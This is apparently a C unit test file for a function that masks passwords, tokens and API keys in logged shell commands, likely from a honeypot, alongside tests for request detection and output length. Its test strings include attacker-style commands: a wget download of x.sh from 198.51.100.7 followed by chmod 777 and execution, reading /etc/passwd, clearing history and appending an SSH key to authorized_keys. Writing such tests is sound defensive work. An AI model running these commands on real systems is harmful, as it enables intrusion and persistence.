/*
 * test_shell.c - no secret that an attacker typed is shown.
 *
 * SPDX-License-Identifier: MIT
 */
#include <stdint.h>
#include <string.h>

#include "common/outgoing/shell.h"
#include "tests/unit/tap.h"

#define SECRET "Geheim4711"
#define LONG "QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVphYmNkZWZnaGlqa2xtbm9w"

static void
check_shown(const char *command, const char *want)
{
	auto_buf out = BUF_INIT(2000);

	shell_put(&out, command);
	is_text(buf_text(&out), want, command);
}

static void
test_kept(void)
{
	static const char *const AS_THEY_ARE[] = { "uname -a",
		"cat /proc/cpuinfo | grep name | wc -l",
		"cd /tmp || cd /var/run; wget http://198.51.100.7/x.sh; chmod 777 x.sh; sh x.sh",
		"mkdir -p /tmp/.x && cd /tmp/.x", "echo -e \"\\x6F\\x6B\"",
		"cat /etc/passwd", "a=b", "=x", "==", "sudo ==", "su -p",
		"A=1 B=2 ./x --a=b", "ftpget -u anonymous -p anonymous 198.51.100.7 a b",
		"KEY= ./x", "curl -H 'Accept: */*' -u me http://x/", "://", "su ://", "@",
		"x://", "curl -o a ftp://198.51.100.7:2121/a", "", " ", "\"'|;&",
		"history -c", "date -u +%H:%M:%S", "docker run -u 0:0 alpine",
		"stat -c \"monkey: %s\" f", "stat -c monkey:%s f", "ps -Uroot",
		"docker run -u0:0 alpine", "date -u+%H:%M", "echo \"key\"",
		"echo \"key\":", "TOKEN=$(curl http://198.51.100.7/t)" };

	for (size_t i = 0; i < sizeof AS_THEY_ARE / sizeof AS_THEY_ARE[0]; i++)
		check_shown(AS_THEY_ARE[i], AS_THEY_ARE[i]);
}

static void
test_cut(void)
{
	check_shown("echo password: foo; wget http://198.51.100.7/x.sh",
	    "echo password: ***; wget http://198.51.100.7/x.sh");
	check_shown("echo \"root:" SECRET "\"|chpasswd", "echo ***|chpasswd");
	check_shown("echo ssh-rsa " LONG " x >> .ssh/authorized_keys",
	    "echo ssh-rsa *** x >> .ssh/authorized_keys");
	check_shown(
	    "wget http://me:" SECRET "@198.51.100.7/x", "wget http://***@198.51.100.7/x");
	check_shown("curl --user me:" SECRET " http://198.51.100.7/",
	    "curl --user *** http://198.51.100.7/");
	check_shown("useradd -p " SECRET " bob", "useradd -p *** bob");
	check_shown("curl -u me:" SECRET " http://x/", "curl -u *** http://x/");
	check_shown("curl -H 'Authorization: Basic " SECRET "' http://x/",
	    "curl -H 'Authorization: ***' http://x/");
	check_shown("curl -H Authorization:" SECRET " http://198.51.100.7/",
	    "curl -H Authorization:*** http://198.51.100.7/");
	check_shown("curl -d '{\"password\": \"" SECRET "\", \"a\": 1}' http://x/",
	    "curl -d '{\"password\": ***, \"a\": 1}' http://x/");
	check_shown("curl -uroot:" SECRET " http://x/", "curl -u*** http://x/");
	check_shown("PGPASSWORD=" SECRET " psql -l", "PGPASSWORD=*** psql -l");
}

/* However it is written. */
static void
test_never(void)
{
	static const char *const COMMANDS[] = { "echo 'root:" SECRET
						"' | /usr/sbin/chpasswd",
		"printf 'root:%s' " SECRET "|chpasswd",
		"echo -e \"" SECRET "\\n" SECRET "\"|passwd root",
		"chpasswd <<< root:" SECRET, "passwd <<EOF\n" SECRET "\n" SECRET "\nEOF",
		"(echo " SECRET "; sleep 1; echo " SECRET ") | passwd",
		"busybox echo root:" SECRET "|busybox chpasswd",
		"sshpass -p" SECRET " ssh root@x", "sshpass -p '" SECRET "' ssh root@x",
		"mysql -uroot -p" SECRET, "usermod --password=" SECRET " root",
		"curl --user=me:" SECRET " http://x/", "tftp://me:" SECRET "@x",
		"echo root:" SECRET " > f; chpasswd < f",
		"echo \"unfinished:" SECRET " | chpasswd",
		"mkpasswd " SECRET " x:" SECRET, "echo " SECRET " | sudo -S ls",
		"echo " SECRET "|su -c id", "export AWS_SECRET_ACCESS_KEY=" SECRET,
		"smbclient //h/s -U me%" SECRET, "lftp -u me," SECRET " h",
		"TOKEN='" SECRET "' ./x", "wget --http-password=" SECRET " http://x/",
		"wget --header='X-Api-Key: " SECRET "' http://x/",
		"curl -H \"authorization: Bearer " SECRET "\" http://x/",
		"curl 'http://x/?token=" SECRET "&a=b'",
		"curl -d 'user=a&password=" SECRET "' http://x/",
		"curl -b 'a=b' -H 'Cookie: s=" SECRET "' http://x/",
		"password=" SECRET "; echo $password",
		"curl -H Authorization:" SECRET " http://x/",
		"curl -H 'Authorization:Bearer " SECRET "' http://x/",
		"curl -H Authorization:Bearer\\ " SECRET " http://x/",
		"curl -HAuthorization:" SECRET " http://x/",
		"curl -H Authorization:'Bearer " SECRET "' http://x/",
		"curl -H \"x-api-key:" SECRET "\" http://x/",
		"wget --header=authorization:" SECRET " http://x/",
		"wget --header=\"PRIVATE-TOKEN:" SECRET "\" http://x/",
		"wget --header Cookie:a=b,c=" SECRET " http://x/",
		"curl -uroot:" SECRET " http://x/",
		"curl -Uroot:" SECRET " -x p http://x/",
		"curl -d '{\"user\":\"a\",\"password\":\"" SECRET "\"}' http://x/",
		"curl -d '{\"password\" : \"" SECRET " 1\"}' http://x/",
		"curl -d \"{\\\"password\\\":\\\"" SECRET "\\\"}\" http://x/",
		"curl -d '{\"apiKey\":" SECRET "}' http://x/" };

	for (size_t i = 0; i < sizeof COMMANDS / sizeof COMMANDS[0]; i++) {
		auto_buf out = BUF_INIT(2000);

		shell_put(&out, COMMANDS[i]);
		if (strstr(buf_text(&out), SECRET) != NULL)
			printf("# %s\n", buf_text(&out));
		ok(strstr(buf_text(&out), SECRET) == NULL, COMMANDS[i]);
	}
}

static void
test_lines(void)
{
	ok(shell_is_request("GET / HTTP/1.1") &&
		shell_is_request("  host: 203.0.113.10") &&
		!shell_is_request("getconf PATH"),
	    "what a web client sends is no command");
	ok(shell_asks_password("passwd") && shell_asks_password("/bin/passwd root") &&
		!shell_asks_password("cat /etc/passwd-") &&
		!shell_asks_password("echo x|passwd"),
	    "the lines after passwd are passwords");
}

/* Whatever is typed, it comes to an end, and grows little. */
static void
test_any(void)
{
	static const char LETTERS[] = "su -p=:/@|<>\"'echo ";
	uint32_t dice = 4711;
	size_t worst = 0;

	for (int n = 0; n < 20000; n++) {
		auto_buf out = BUF_INIT(4000);
		char text[40];

		for (size_t i = 0; i < sizeof text - 1; i++) {
			dice = dice * 1664525 + 1013904223;
			text[i] = LETTERS[(dice >> 16) % (sizeof LETTERS - 1)];
		}
		text[(dice >> 8) % (sizeof text - 1)] = '\0';
		shell_put(&out, text);
		worst = out.len > worst ? out.len : worst;
	}
	ok(worst < 200, "any text");
}

int
main(void)
{
	test_kept();
	test_cut();
	test_never();
	test_lines();
	test_any();
	return done_testing();
}
